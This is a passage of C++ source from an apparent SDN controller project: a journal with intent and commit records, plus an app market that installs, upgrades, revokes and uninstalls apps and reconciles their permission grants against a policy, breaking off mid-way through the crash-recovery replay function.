#include <algorithm>
#include <sstream>
#include <stdexcept>

#include "isolation/fault_injector.h"

namespace sdnshield::market {

namespace {

constexpr struct {
  JournalOp op;
  const char* name;
} kOpNames[] = {
    {JournalOp::kInstallIntent, "install_intent"},
    {JournalOp::kInstallCommit, "install_commit"},
    {JournalOp::kUpgradeIntent, "upgrade_intent"},
    {JournalOp::kUpgradeCommit, "upgrade_commit"},
    {JournalOp::kRevokeIntent, "revoke_intent"},
    {JournalOp::kRevokeCommit, "revoke_commit"},
    {JournalOp::kUninstallIntent, "uninstall_intent"},
    {JournalOp::kUninstallCommit, "uninstall_commit"},
    {JournalOp::kPolicyIntent, "policy_intent"},
    {JournalOp::kPolicyGrant, "policy_grant"},
    {JournalOp::kPolicyCommit, "policy_commit"},
    {JournalOp::kAbort, "abort"},
};

std::string escapeField(const std::string& raw) {
  std::string out;
  out.reserve(raw.size());
  for (char c : raw) {
    switch (c) {
      case '\\':
        out += "\\\\";
        break;
      case '\t':
        out += "\\t";
        break;
      case '\n':
        out += "\\n";
        break;
      default:
        out += c;
    }
  }
  return out;
}

std::string unescapeField(const std::string& field) {
  std::string out;
  out.reserve(field.size());
  for (std::size_t i = 0; i < field.size(); ++i) {
    if (field[i] != '\\') {
      out += field[i];
      continue;
    }
    if (i + 1 >= field.size()) {
      throw std::invalid_argument("journal field: dangling escape");
    }
    switch (field[++i]) {
      case '\\':
        out += '\\';
        break;
      case 't':
        out += '\t';
        break;
      case 'n':
        out += '\n';
        break;
      default:
        throw std::invalid_argument("journal field: unknown escape");
    }
  }
  return out;
}

std::vector<std::string> splitFields(const std::string& line) {
  std::vector<std::string> fields;
  std::string current;
  for (char c : line) {
    if (c == '\t') {
      fields.push_back(std::move(current));
      current.clear();
    } else {
      current += c;
    }
  }
  fields.push_back(std::move(current));
  return fields;
}

std::uint64_t parseU64(const std::string& text, const char* what) {
  try {
    std::size_t used = 0;
    std::uint64_t value = std::stoull(text, &used);
    if (used != text.size()) throw std::invalid_argument(what);
    return value;
  } catch (const std::exception&) {
    throw std::invalid_argument(std::string("journal record: bad ") + what);
  }
}

}  // namespace

const char* toString(JournalOp op) {
  for (const auto& entry : kOpNames) {
    if (entry.op == op) return entry.name;
  }
  return "unknown_op";
}

std::optional<JournalOp> parseJournalOp(const std::string& name) {
  for (const auto& entry : kOpNames) {
    if (name == entry.name) return entry.op;
  }
  return std::nullopt;
}

std::string JournalRecord::encode() const {
  std::ostringstream out;
  out << seq << '\t' << market::toString(op) << '\t' << app << '\t' << version
      << '\t' << escapeField(name) << '\t' << escapeField(manifestText) << '\t'
      << escapeField(grantedText) << '\t' << escapeField(detail);
  return out.str();
}

JournalRecord JournalRecord::decode(const std::string& line) {
  std::vector<std::string> fields = splitFields(line);
  if (fields.size() != 8) {
    throw std::invalid_argument("journal record: expected 8 fields, got " +
                                std::to_string(fields.size()));
  }
  JournalRecord record;
  record.seq = parseU64(fields[0], "seq");
  std::optional<JournalOp> op = parseJournalOp(fields[1]);
  if (!op) throw std::invalid_argument("journal record: unknown op");
  record.op = *op;
  record.app = parseU64(fields[2], "app");
  record.version = static_cast<std::uint32_t>(parseU64(fields[3], "version"));
  record.name = unescapeField(fields[4]);
  record.manifestText = unescapeField(fields[5]);
  record.grantedText = unescapeField(fields[6]);
  record.detail = unescapeField(fields[7]);
  return record;
}

MarketJournal::MarketJournal(std::vector<JournalRecord> existing)
    : records_(std::move(existing)) {
  for (const JournalRecord& record : records_) {
    nextSeq_ = std::max(nextSeq_, record.seq + 1);
  }
}

std::uint64_t MarketJournal::append(JournalRecord record) {
  // Fault site fires before any mutation: an injected journal fault aborts
  // the append with no record persisted or retained.
  iso::FaultInjector::instance().inject(iso::sites::kMarketJournal);
  std::lock_guard lock(mutex_);
  record.seq = nextSeq_++;
  persist(record);
  records_.push_back(std::move(record));
  return records_.back().seq;
}

std::vector<JournalRecord> MarketJournal::records() const {
  std::lock_guard lock(mutex_);
  return records_;
}

std::size_t MarketJournal::size() const {
  std::lock_guard lock(mutex_);
  return records_.size();
}

std::vector<JournalRecord> FileJournal::load(const std::string& path) {
  std::vector<JournalRecord> records;
  std::ifstream in(path);
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    try {
      records.push_back(JournalRecord::decode(line));
    } catch (const std::invalid_argument&) {
      // An undecodable line is a torn append from a crash: the write was
      // never acknowledged, so skipping it is the abort semantics of the
      // unfinished transaction. Records appended AFTER a recovery from the
      // torn file are real commits and must keep replaying, so skip — do
      // not stop at — the remnant.
      continue;
    }
  }
  return records;
}

FileJournal::FileJournal(const std::string& path) : MarketJournal(load(path)) {
  // A crash mid-append can leave a torn final line with no terminating
  // newline; appending straight after it would merge the next record into
  // the remnant and corrupt it. Complete the line first so post-recovery
  // appends start clean (load() skips the undecodable remnant itself).
  {
    std::ifstream probe(path, std::ios::binary | std::ios::ate);
    if (probe && probe.tellg() > 0) {
      probe.seekg(-1, std::ios::end);
      char last = 0;
      if (probe.get(last) && last != '\n') {
        std::ofstream guard(path, std::ios::app);
        guard << '\n';
      }
    }
  }
  out_.open(path, std::ios::app);
  if (!out_) {
    throw std::runtime_error("FileJournal: cannot open " + path);
  }
}

void FileJournal::persist(const JournalRecord& record) {
  out_ << record.encode() << '\n';
  out_.flush();
  if (!out_) {
    throw std::runtime_error("FileJournal: append failed");
  }
}

}  // namespace sdnshield::market
