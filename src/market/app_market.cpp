#include "market/app_market.h"

#include <algorithm>
#include <set>
#include <sstream>
#include <stdexcept>
#include <thread>
#include <unordered_map>
#include <utility>

#include "core/engine/permission_engine.h"
#include "core/lang/errors.h"
#include "core/lang/perm_parser.h"
#include "core/lang/policy_parser.h"
#include "core/lang/printer.h"
#include "isolation/executor.h"
#include "isolation/fault_injector.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace sdnshield::market {

namespace {

struct MarketMetrics {
  obs::Counter installs = obs::Registry::global().counter("market.installs");
  obs::Counter upgrades = obs::Registry::global().counter("market.upgrades");
  obs::Counter revokes = obs::Registry::global().counter("market.revokes");
  obs::Counter uninstalls =
      obs::Registry::global().counter("market.uninstalls");
  obs::Counter policyUpdates =
      obs::Registry::global().counter("market.policy_updates");
  obs::Counter aborts = obs::Registry::global().counter("market.aborts");
  obs::Gauge apps = obs::Registry::global().gauge("market.apps");
  obs::Histogram policyUpdateNs =
      obs::Registry::global().histogram("market.policy_update_ns");
  /// Incremental-reconcile visibility: units a policy push decomposed into,
  /// how many were answered by the memo, and how many ran fresh.
  obs::Counter reconcileUnits =
      obs::Registry::global().counter("market.reconcile_units");
  obs::Counter reconcileCacheHits =
      obs::Registry::global().counter("market.reconcile_cache_hits");
  obs::Counter reconcileFresh =
      obs::Registry::global().counter("market.reconcile_fresh");
};

const MarketMetrics& metrics() {
  static const MarketMetrics m;
  return m;
}

/// One-line permission-language rendering (newline-free) for journal records
/// and digests.
std::string formatGrantLine(const perm::PermissionSet& set) {
  std::string text = lang::formatPermissions(set);
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    if (c == '\n') {
      if (!out.empty() && out.back() != ';') out += ';';
    } else {
      out += c;
    }
  }
  while (!out.empty() && out.back() == ';') out.pop_back();
  return out;
}

perm::PermissionSet parseGrantLine(const std::string& line) {
  std::string text;
  text.reserve(line.size());
  for (char c : line) text += (c == ';') ? '\n' : c;
  return lang::parsePermissions(text);
}

}  // namespace

const char* toString(AppState state) {
  switch (state) {
    case AppState::kRunning:
      return "running";
    case AppState::kRevoked:
      return "revoked";
  }
  return "unknown";
}

std::string describePermissionDiff(const perm::PermissionSet& before,
                                   const perm::PermissionSet& after) {
  std::ostringstream out;
  bool any = false;
  for (const perm::Permission& grant : after.permissions()) {
    if (!before.has(grant.token)) {
      out << (any ? " " : "") << "+" << perm::toString(grant.token);
      any = true;
    }
  }
  for (const perm::Permission& grant : before.permissions()) {
    if (!after.has(grant.token)) {
      out << (any ? " " : "") << "-" << perm::toString(grant.token);
      any = true;
    }
  }
  // Tokens present on both sides whose filters changed (narrowed or
  // widened): compare via mutual single-token inclusion.
  for (const perm::Permission& grant : after.permissions()) {
    if (!before.has(grant.token)) continue;
    perm::PermissionSet lhs;
    lhs.grant(grant.token, *before.filterFor(grant.token));
    perm::PermissionSet rhs;
    rhs.grant(grant.token, *after.filterFor(grant.token));
    if (!lhs.equivalent(rhs)) {
      out << (any ? " " : "") << "~" << perm::toString(grant.token);
      any = true;
    }
  }
  return any ? out.str() : "unchanged";
}

AppMarket::AppMarket(iso::ShieldRuntime& runtime, lang::PolicyProgram policy,
                     std::shared_ptr<MarketJournal> journal)
    : runtime_(runtime),
      journal_(journal ? std::move(journal)
                       : std::make_shared<MemoryJournal>()),
      policy_(std::move(policy)) {
  runtime_.controller().setMarketControl(this);
}

AppMarket::~AppMarket() {
  if (runtime_.controller().marketControl() == this) {
    runtime_.controller().setMarketControl(nullptr);
  }
}

reconcile::ReconcileResult AppMarket::reconcileLocked(
    const lang::PolicyProgram& policy,
    const lang::PermissionManifest& manifest, of::AppId excludeApp) const {
  iso::FaultInjector::instance().inject(iso::sites::kMarketReconcile);
  std::map<std::string, perm::PermissionSet> otherApps;
  for (const auto& [id, entry] : entries_) {
    if (id == excludeApp || entry.state != AppState::kRunning) continue;
    otherApps.emplace(entry.name, entry.granted);
  }
  return reconcile::Reconciler(policy).reconcile(manifest, otherApps);
}

void AppMarket::journalAbort(of::AppId app, const std::string& what) {
  metrics().aborts.increment();
  JournalRecord record;
  record.op = JournalOp::kAbort;
  record.app = app;
  record.detail = what;
  try {
    journal_->append(std::move(record));
  } catch (const std::exception&) {
    // The abort record is diagnostic only; the rollback already happened.
  }
}

ctrl::ApiResponse<of::AppId> AppMarket::installApp(
    std::shared_ptr<ctrl::App> app, std::uint32_t version) {
  using Response = ctrl::ApiResponse<of::AppId>;
  std::lock_guard lock(mutex_);

  lang::PermissionManifest manifest;
  try {
    manifest = lang::parseManifest(app->requestedManifest());
  } catch (const lang::ParseError& error) {
    return Response::failure(ctrl::ApiErrc::kInvalidArgument,
                             std::string("manifest: ") + error.what());
  }
  std::string name = manifest.appName.empty() ? app->name() : manifest.appName;

  JournalRecord intent;
  intent.op = JournalOp::kInstallIntent;
  intent.version = version;
  intent.name = name;
  intent.manifestText = app->requestedManifest();
  try {
    journal_->append(std::move(intent));
  } catch (const std::exception& error) {
    return Response::failure(ctrl::ApiErrc::kTransactionAborted,
                             std::string("journal: ") + error.what());
  }

  perm::PermissionSet granted;
  std::vector<reconcile::Violation> violations;
  try {
    reconcile::ReconcileResult result = reconcileLocked(policy_, manifest, 0);
    granted = std::move(result.finalPermissions);
    violations = std::move(result.violations);
  } catch (const std::exception& error) {
    journalAbort(0, std::string("install ") + name + ": " + error.what());
    return Response::failure(ctrl::ApiErrc::kTransactionAborted,
                             std::string("reconcile: ") + error.what());
  }

  of::AppId id = 0;
  try {
    iso::FaultInjector::instance().inject(iso::sites::kMarketSwap);
    id = runtime_.loadApp(app, granted);
  } catch (const std::exception& error) {
    journalAbort(0, std::string("install ") + name + ": " + error.what());
    return Response::failure(ctrl::ApiErrc::kTransactionAborted,
                             std::string("load: ") + error.what());
  }

  JournalRecord commit;
  commit.op = JournalOp::kInstallCommit;
  commit.app = id;
  commit.version = version;
  commit.name = name;
  commit.manifestText = app->requestedManifest();
  commit.grantedText = formatGrantLine(granted);
  try {
    journal_->append(std::move(commit));
  } catch (const std::exception& error) {
    // The commit record is the durability point; without it the install
    // must not survive — roll the live runtime back to the pre-op state.
    runtime_.unloadApp(id);
    journalAbort(id, std::string("install ") + name + ": " + error.what());
    return Response::failure(ctrl::ApiErrc::kTransactionAborted,
                             std::string("journal: ") + error.what());
  }

  AppEntry entry;
  entry.id = id;
  entry.name = name;
  entry.version = version;
  entry.manifestHash = fnv1aHash(app->requestedManifest());
  entry.manifest = std::move(manifest);
  entry.granted = std::move(granted);
  entries_[id] = std::move(entry);
  instances_[id] = std::move(app);

  std::ostringstream summary;
  summary << "installed " << name << " v" << version << " ("
          << entries_[id].granted.size() << " grants, " << violations.size()
          << " reconcile repairs)";
  runtime_.controller().audit().recordLifecycle(id, summary.str());
  metrics().installs.increment();
  metrics().apps.add(1);
  return Response::success(id);
}

ctrl::ApiResult AppMarket::upgradeApp(of::AppId id,
                                      std::shared_ptr<ctrl::App> next,
                                      std::uint32_t version) {
  std::lock_guard lock(mutex_);
  auto it = entries_.find(id);
  if (it == entries_.end() || it->second.state != AppState::kRunning) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    "unknown or non-running app");
  }

  lang::PermissionManifest manifest;
  try {
    manifest = lang::parseManifest(next->requestedManifest());
  } catch (const lang::ParseError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    std::string("manifest: ") + error.what());
  }
  std::string name =
      manifest.appName.empty() ? next->name() : manifest.appName;

  JournalRecord intent;
  intent.op = JournalOp::kUpgradeIntent;
  intent.app = id;
  intent.version = version;
  intent.name = name;
  intent.manifestText = next->requestedManifest();
  intent.detail = "from v" + std::to_string(it->second.version);
  try {
    journal_->append(std::move(intent));
  } catch (const std::exception& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  perm::PermissionSet granted;
  try {
    reconcile::ReconcileResult result = reconcileLocked(policy_, manifest, id);
    granted = std::move(result.finalPermissions);
  } catch (const std::exception& error) {
    journalAbort(id, std::string("upgrade ") + name + ": " + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("reconcile: ") + error.what());
  }

  try {
    iso::FaultInjector::instance().inject(iso::sites::kMarketSwap);
    runtime_.swapApp(id, next, granted);
  } catch (const std::exception& error) {
    journalAbort(id, std::string("upgrade ") + name + ": " + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("swap: ") + error.what());
  }

  JournalRecord commit;
  commit.op = JournalOp::kUpgradeCommit;
  commit.app = id;
  commit.version = version;
  commit.name = name;
  commit.manifestText = next->requestedManifest();
  commit.grantedText = formatGrantLine(granted);
  try {
    journal_->append(std::move(commit));
  } catch (const std::exception& error) {
    // Roll the runtime back to the previous release under the old grant.
    runtime_.swapApp(id, instances_[id], it->second.granted);
    journalAbort(id, std::string("upgrade ") + name + ": " + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  std::string diff = describePermissionDiff(it->second.granted, granted);
  std::ostringstream summary;
  summary << "upgraded " << name << " v" << it->second.version << "->v"
          << version << " perms: " << diff;
  runtime_.controller().audit().recordLifecycle(id, summary.str());

  it->second.name = name;
  it->second.version = version;
  it->second.manifestHash = fnv1aHash(next->requestedManifest());
  it->second.manifest = std::move(manifest);
  it->second.granted = std::move(granted);
  instances_[id] = std::move(next);
  metrics().upgrades.increment();
  return ctrl::ApiResult::success();
}

ctrl::ApiResult AppMarket::revokeApp(of::AppId app, const std::string& reason) {
  std::lock_guard lock(mutex_);
  auto it = entries_.find(app);
  if (it == entries_.end() || it->second.state != AppState::kRunning) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    "unknown or non-running app");
  }

  JournalRecord intent;
  intent.op = JournalOp::kRevokeIntent;
  intent.app = app;
  intent.name = it->second.name;
  intent.detail = reason;
  try {
    journal_->append(std::move(intent));
  } catch (const std::exception& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  // The commit record goes in BEFORE the quarantine: quarantineApp cannot
  // fail, so commit-then-apply keeps journal and runtime consistent, while
  // an injected fault on either site below aborts with nothing applied.
  try {
    iso::FaultInjector::instance().inject(iso::sites::kMarketSwap);
    JournalRecord commit;
    commit.op = JournalOp::kRevokeCommit;
    commit.app = app;
    commit.name = it->second.name;
    commit.detail = reason;
    journal_->append(std::move(commit));
  } catch (const std::exception& error) {
    journalAbort(app, "revoke " + it->second.name + ": " + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    error.what());
  }

  // Deputy-safe teardown: subscriptions removed, grant uninstalled,
  // container sealed (no join) — in-flight deputy calls complete with typed
  // errors (kAppQuarantined / broken-promise mapping).
  runtime_.quarantineApp(app, "market revoke: " + reason);
  it->second.state = AppState::kRevoked;
  runtime_.controller().audit().recordLifecycle(
      app, "revoked " + it->second.name + ": " + reason);
  metrics().revokes.increment();
  return ctrl::ApiResult::success();
}

ctrl::ApiResult AppMarket::uninstallApp(of::AppId id) {
  std::lock_guard lock(mutex_);
  auto it = entries_.find(id);
  if (it == entries_.end()) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    "unknown app");
  }

  JournalRecord intent;
  intent.op = JournalOp::kUninstallIntent;
  intent.app = id;
  intent.name = it->second.name;
  try {
    journal_->append(std::move(intent));
  } catch (const std::exception& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  try {
    iso::FaultInjector::instance().inject(iso::sites::kMarketSwap);
    JournalRecord commit;
    commit.op = JournalOp::kUninstallCommit;
    commit.app = id;
    commit.name = it->second.name;
    journal_->append(std::move(commit));
  } catch (const std::exception& error) {
    journalAbort(id, "uninstall " + it->second.name + ": " + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    error.what());
  }

  // Full unload (joins the container thread — host-level call only):
  // permissions uninstalled, subscriptions removed, async-window slot
  // released.
  runtime_.unloadApp(id);
  runtime_.controller().audit().recordLifecycle(
      id, "uninstalled " + it->second.name);
  entries_.erase(it);
  instances_.erase(id);
  metrics().uninstalls.increment();
  metrics().apps.add(-1);
  return ctrl::ApiResult::success();
}

ctrl::ApiResult AppMarket::updatePolicy(const std::string& policyText) {
  OBS_SPAN("market.update_policy");
  std::int64_t startNs = obs::Tracer::nowNs();

  lang::PolicyProgram next;
  try {
    next = lang::parsePolicy(policyText);
  } catch (const lang::ParseError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    std::string("policy: ") + error.what());
  }

  std::lock_guard lock(mutex_);

  JournalRecord intent;
  intent.op = JournalOp::kPolicyIntent;
  intent.manifestText = policyText;
  try {
    journal_->append(std::move(intent));
  } catch (const std::exception& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  // Re-reconcile every running app against the new policy — incrementally:
  // apps sharing a (manifest, observed-context) identity form one unit,
  // units answered by the memo skip reconciliation entirely, and the
  // remaining units fan across the reconcile deputy pool. Nothing is
  // published yet: a failure anywhere aborts with every grant unchanged.
  std::vector<std::pair<of::AppId, perm::PermissionSet>> newGrants;
  std::vector<
      std::pair<of::AppId, std::shared_ptr<const engine::CompiledPermissions>>>
      newPrograms;
  try {
    const std::uint64_t policyHash = fnv1aHash(policyText);
    const std::vector<std::string> refs = collectAppRefs(next);
    std::vector<ReconcileUnit> units =
        groupReconcileUnitsLocked(policyHash, refs);
    metrics().reconcileUnits.add(static_cast<std::int64_t>(units.size()));

    std::vector<perm::PermissionSet> unitGrants(units.size());
    std::vector<std::size_t> fresh;
    for (std::size_t i = 0; i < units.size(); ++i) {
      if (auto hit = reconcileCache_.lookup(units[i].key)) {
        unitGrants[i] = std::move(*hit);
        metrics().reconcileCacheHits.increment();
      } else {
        fresh.push_back(i);
      }
    }
    metrics().reconcileFresh.add(static_cast<std::int64_t>(fresh.size()));

    if (!fresh.empty()) {
      // One shared reconciler: reconcile() is const and self-contained, so
      // concurrent units are safe; the shared inclusion memo and interner
      // it leans on are process-wide and internally synchronized.
      const reconcile::Reconciler reconciler(next);
      auto reconcileUnit = [&](std::size_t index) {
        const ReconcileUnit& unit = units[index];
        unitGrants[index] =
            reconciler
                .reconcile(unit.representative->manifest,
                           unitContextLocked(*unit.representative, refs))
                .finalPermissions;
      };
      iso::KsdPool* pool =
          fresh.size() >= 2 ? reconcilePoolLocked() : nullptr;
      if (pool) {
        std::vector<std::function<void()>> jobs;
        jobs.reserve(fresh.size());
        for (std::size_t index : fresh) {
          jobs.emplace_back([&reconcileUnit, index] { reconcileUnit(index); });
        }
        pool->invokeAll(std::move(jobs));
      } else {
        for (std::size_t index : fresh) reconcileUnit(index);
      }
      for (std::size_t index : fresh) {
        reconcileCache_.insert(units[index].key, unitGrants[index]);
      }
    }

    // Compile once per unit (a cache lookup when the grant shape was seen
    // before); every member shares the program, so the epoch swap below is
    // one map insert per app with no per-app compile or cache-key work.
    for (std::size_t i = 0; i < units.size(); ++i) {
      auto program = engine::CompiledProgramCache::global().obtain(unitGrants[i]);
      for (of::AppId id : units[i].members) {
        newGrants.emplace_back(id, unitGrants[i]);
        newPrograms.emplace_back(id, program);
      }
    }
    // Journal/publish in app-id order, exactly like the per-app loop this
    // replaces (units interleave ids, so sort).
    std::sort(newGrants.begin(), newGrants.end(),
              [](const auto& a, const auto& b) { return a.first < b.first; });
    std::sort(newPrograms.begin(), newPrograms.end(),
              [](const auto& a, const auto& b) { return a.first < b.first; });
  } catch (const std::exception& error) {
    journalAbort(0, std::string("policy update: ") + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("reconcile: ") + error.what());
  }

  try {
    for (const auto& [id, granted] : newGrants) {
      JournalRecord grant;
      grant.op = JournalOp::kPolicyGrant;
      grant.app = id;
      grant.name = entries_[id].name;
      grant.grantedText = formatGrantLine(granted);
      journal_->append(std::move(grant));
    }
  } catch (const std::exception& error) {
    journalAbort(0, std::string("policy update: ") + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  // The atomic epoch swap: ONE installAll publishes every new grant with a
  // single version bump — concurrent checks see all-old or all-new.
  try {
    iso::FaultInjector::instance().inject(iso::sites::kMarketSwap);
    runtime_.engine().installAll(std::move(newPrograms));
  } catch (const std::exception& error) {
    journalAbort(0, std::string("policy update: ") + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("swap: ") + error.what());
  }

  JournalRecord commit;
  commit.op = JournalOp::kPolicyCommit;
  try {
    journal_->append(std::move(commit));
  } catch (const std::exception& error) {
    // Restore the previous grants with a second (equally atomic) swap.
    std::vector<std::pair<of::AppId, perm::PermissionSet>> oldGrants;
    for (const auto& [id, granted] : newGrants) {
      oldGrants.emplace_back(id, entries_[id].granted);
    }
    runtime_.engine().installAll(oldGrants);
    journalAbort(0, std::string("policy update: ") + error.what());
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted,
                                    std::string("journal: ") + error.what());
  }

  for (auto& [id, granted] : newGrants) {
    AppEntry& entry = entries_[id];
    std::string diff = describePermissionDiff(entry.granted, granted);
    if (diff != "unchanged") {
      runtime_.controller().audit().recordLifecycle(
          id, "policy update regranted " + entry.name + ": " + diff);
    }
    entry.granted = std::move(granted);
  }
  policy_ = std::move(next);
  runtime_.controller().audit().recordLifecycle(
      0, "policy epoch swap over " + std::to_string(newGrants.size()) +
             " apps (epoch " + std::to_string(runtime_.engine().epoch()) +
             ")");
  metrics().policyUpdates.increment();
  metrics().policyUpdateNs.record(obs::Tracer::nowNs() - startNs);
  return ctrl::ApiResult::success();
}

std::string AppMarket::report() const {
  std::lock_guard lock(mutex_);
  std::ostringstream out;
  out << "app market: " << entries_.size() << " apps, journal "
      << journal_->size() << " records, epoch " << runtime_.engine().epoch()
      << "\n";
  for (const auto& [id, entry] : entries_) {
    out << "  app " << id << " " << entry.name << " v" << entry.version << " "
        << market::toString(entry.state) << " grants=["
        << formatGrantLine(entry.granted) << "]\n";
  }
  return out.str();
}

std::string AppMarket::digestLocked() const {
  // Canonical, single-line, epoch-free (a recovered engine renumbers
  // epochs): two markets with identical app/permission state — ids, names,
  // versions, states, grants — produce identical digests.
  std::ostringstream out;
  out << "apps=" << entries_.size();
  for (const auto& [id, entry] : entries_) {
    out << "|" << id << ":" << entry.name << ":v" << entry.version << ":"
        << market::toString(entry.state) << ":["
        << formatGrantLine(entry.granted) << "]";
  }
  return out.str();
}

std::string AppMarket::digest() const {
  std::lock_guard lock(mutex_);
  return digestLocked();
}

std::optional<AppEntry> AppMarket::entry(of::AppId id) const {
  std::lock_guard lock(mutex_);
  auto it = entries_.find(id);
  if (it == entries_.end()) return std::nullopt;
  return it->second;
}

std::size_t AppMarket::installedCount() const {
  std::lock_guard lock(mutex_);
  return entries_.size();
}

lang::PolicyProgram AppMarket::policy() const {
  std::lock_guard lock(mutex_);
  return policy_;
}

std::vector<AppMarket::ReconcileUnit> AppMarket::groupReconcileUnitsLocked(
    std::uint64_t policyHash, const std::vector<std::string>& refs) const {
  // Grant-line hashes of the running apps the policy can reference, by
  // name, in app-id order — the same first-by-id shadowing the full
  // otherApps map's emplace gives reconcileLocked.
  std::map<std::string, std::vector<std::pair<of::AppId, std::uint64_t>>>
      byName;
  for (const auto& [id, entry] : entries_) {
    if (entry.state != AppState::kRunning) continue;
    if (!std::binary_search(refs.begin(), refs.end(), entry.name)) continue;
    byName[entry.name].emplace_back(id,
                                    fnv1aHash(formatGrantLine(entry.granted)));
  }

  std::vector<ReconcileUnit> units;
  std::unordered_map<ReconcileKey, std::size_t, ReconcileKeyHash> index;
  for (const auto& [id, entry] : entries_) {
    if (entry.state != AppState::kRunning) continue;
    // Fire the reconcile fault site once per app — the per-app firing
    // count (and campaign/mck schedule-point count) of the serial loop
    // this grouping replaces.
    iso::FaultInjector::instance().inject(iso::sites::kMarketReconcile);
    std::uint64_t contextHash = 0;
    for (const std::string& ref : refs) {
      // `APP <self>` resolves to the manifest under reconciliation; the
      // manifest hash already covers it.
      if (ref == entry.manifest.appName) continue;
      contextHash = hashMix(contextHash, fnv1aHash(ref));
      std::uint64_t observed = 0x5eed;  // No app by that name.
      if (auto it = byName.find(ref); it != byName.end()) {
        for (const auto& [otherId, grantHash] : it->second) {
          if (otherId == id) continue;
          observed = grantHash;
          break;
        }
      }
      contextHash = hashMix(contextHash, observed);
    }
    ReconcileKey key{policyHash, entry.manifestHash, contextHash};
    auto [slot, inserted] = index.emplace(key, units.size());
    if (inserted) {
      units.push_back(ReconcileUnit{key, &entry, {id}});
    } else {
      units[slot->second].members.push_back(id);
    }
  }
  return units;
}

std::map<std::string, perm::PermissionSet> AppMarket::unitContextLocked(
    const AppEntry& representative,
    const std::vector<std::string>& refs) const {
  // The reconciler only ever reads `APP name` entries, so the full
  // otherApps map restricted to the policy's referenced names is
  // observationally identical — and O(refs) instead of O(apps) to copy.
  std::map<std::string, perm::PermissionSet> context;
  if (refs.empty()) return context;
  for (const auto& [id, entry] : entries_) {
    if (id == representative.id || entry.state != AppState::kRunning) continue;
    if (!std::binary_search(refs.begin(), refs.end(), entry.name)) continue;
    context.emplace(entry.name, entry.granted);
  }
  return context;
}

iso::KsdPool* AppMarket::reconcilePoolLocked() {
  if (!parallelReconcile_) return nullptr;
  // Virtualized (mck) runs stay serial: real fan-out threads would take
  // scheduling out of the explorer's hands.
  if (iso::virtualExecutor() != nullptr) return nullptr;
  if (!reconcilePool_) {
    unsigned hw = std::thread::hardware_concurrency();
    std::size_t threads = std::min<std::size_t>(8, std::max(2u, hw));
    reconcilePool_ = std::make_unique<iso::KsdPool>(threads);
    reconcilePool_->start();
  }
  return reconcilePool_.get();
}

ReconcileCache::Stats AppMarket::reconcileCacheStats() const {
  std::lock_guard lock(mutex_);
  return reconcileCache_.stats();
}

void AppMarket::setReconcileCacheEnabled(bool enabled) {
  std::lock_guard lock(mutex_);
  reconcileCache_.setEnabled(enabled);
}

void AppMarket::clearReconcileCache() {
  std::lock_guard lock(mutex_);
  reconcileCache_.clear();
}

void AppMarket::setParallelReconcile(bool enabled) {
  std::lock_guard lock(mutex_);
  parallelReconcile_ = enabled;
}

bool AppMarket::parallelReconcile() const {
  std::lock_guard lock(mutex_);
  return parallelReconcile_;
}

std::unique_ptr<AppMarket> AppMarket::recover(
    iso::ShieldRuntime& runtime, lang::PolicyProgram initialPolicy,
    const AppFactory& factory, std::shared_ptr<MarketJournal> journal) {
  std::vector<JournalRecord> records = journal->records();
  auto market = std::unique_ptr<AppMarket>(
      new AppMarket(runtime, std::move(initialPolicy), std::move(journal)));
  std::lock_guard lock(market->mutex_);

  // Replay only committed operations: intents without commits (and aborted
  // ops) left no durable state behind by construction.
  std::string pendingPolicyText;
  std::map<of::AppId, perm::PermissionSet> pendingGrants;
  for (const JournalRecord& record : records) {
    switch (record.op) {
      case JournalOp::kInstallCommit: {
        std::shared_ptr<ctrl::App> app = factory(record.name, record.version);
        if (!app) {
          throw std::runtime_error("recover: no factory for " + record.name);
        }
        perm::PermissionSet granted = parseGrantLine(record.grantedText);
        runtime.loadAppAs(record.app, app, granted);
        AppEntry entry;
        entry.id = record.app;
        entry.name = record.name;
        entry.version = record.version;
        entry.manifestHash = fnv1aHash(record.manifestText);
        entry.manifest = lang::parseManifest(record.manifestText);
        entry.granted = std::move(granted);
        market->entries_[record.app] = std::move(entry);
        market->instances_[record.app] = std::move(app);
        break;
      }
      case JournalOp::kUpgradeCommit: {
        std::shared_ptr<ctrl::App> app = factory(record.name, record.version);
        if (!app) {
          throw std::runtime_error("recover: no factory for " + record.name);
        }
        perm::PermissionSet granted = parseGrantLine(record.grantedText);
        runtime.swapApp(record.app, app, granted);
        AppEntry& entry = market->entries_.at(record.app);
        entry.name = record.name;
        entry.version = record.version;
        entry.manifestHash = fnv1aHash(record.manifestText);
        entry.manifest = lang::parseManifest(record.manifestText);
        entry.granted = std::move(granted);
